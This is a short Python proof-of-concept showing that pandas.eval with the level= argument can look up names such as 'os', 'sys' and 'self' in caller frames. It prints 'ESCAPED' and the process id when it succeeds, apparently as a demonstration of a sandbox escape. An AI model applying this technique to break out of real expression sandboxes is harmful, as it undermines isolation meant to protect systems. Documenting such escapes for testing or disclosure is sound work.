# proves: prints ESCAPED pid; pandas.eval looks names up in a frame that level= chooses
# needs: pandas

import pandas as pd
for level in range(12):
    for name in ("os", "sys", "self"):
        try:
            found = pd.eval(name, level=level)
            print("ESCAPED", found.getpid() if name == "os" else found)
        except Exception:
            pass
